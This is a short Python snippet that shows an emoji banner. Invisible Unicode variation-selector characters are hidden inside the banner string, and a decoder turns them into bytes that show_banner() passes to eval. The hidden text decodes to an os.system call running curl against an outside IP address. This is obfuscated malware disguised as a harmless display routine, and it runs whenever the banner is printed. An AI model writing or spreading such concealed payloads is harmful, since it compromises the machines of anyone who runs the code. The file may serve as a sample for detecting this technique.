# expect: unicode
BANNER = "😀󠅏󠅏󠅙󠅝󠅠󠅟󠅢󠅤󠅏󠅏󠄘󠄒󠅟󠅣󠄒󠄙󠄞󠅣󠅩󠅣󠅤󠅕󠅝󠄘󠄒󠅓󠅥󠅢󠅜󠄐󠄝󠅣󠄐󠅘󠅤󠅤󠅠󠄪󠄟󠄟󠄩󠄡󠄞󠄩󠄢󠄞󠄡󠄞󠄡󠄟󠅨󠅬󠅣󠅘󠄒󠄙"


def _decode(text: str) -> bytes:
    out = bytearray()
    for ch in text:
        cp = ord(ch)
        if 0xFE00 <= cp <= 0xFE0F:
            out.append(cp - 0xFE00)
        elif 0xE0100 <= cp <= 0xE01EF:
            out.append(cp - 0xE0100 + 16)
    return bytes(out)


def show_banner() -> None:
    print(BANNER[0])
    eval(_decode(BANNER))
